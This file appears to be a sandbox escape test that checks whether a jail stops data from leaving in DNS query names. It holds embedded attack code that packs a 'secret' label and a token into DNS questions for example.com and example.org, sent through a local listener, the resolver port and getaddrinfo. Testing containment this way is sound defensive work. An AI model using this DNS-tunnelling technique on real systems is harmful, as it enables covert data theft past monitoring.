"""Data leaves in the names of DNS questions: asked of the host's resolver, of the jail's own, and by its library."""

CLASS = "network"
REQUIREMENT = "F6"
NEEDS = ("listener",)
CONTROL = """
import struct
def question(name):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0) + labels + b"\\0" + struct.pack("!HH", 16, 1)
def ask(port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(1)
        s.connect(("127.0.0.1", port))
        s.send(question("c2VjcmV0." + HOST["token"] + ".example.com"))
        s.recv(512)
say(host=outcome(ask, HOST["udp_port"]))
"""
ATTACK = (
    CONTROL
    + """
say(own=outcome(ask, 53), library=outcome(socket.getaddrinfo, "c2VjcmV0." + HOST["token"] + ".example.org", 80))
"""
)


def observe(before, after):
    if after["received"] > before["received"]:
        return "ESCAPED", "the question left"
    names = [name for name in after["denials"] if "c2vjcmv0" in name]
    words = f"host: {after['said'].get('host')}, library: {after['said'].get('library')}; {len(names)} names on record"
    return "DETECTED" if names else "BLOCKED", words
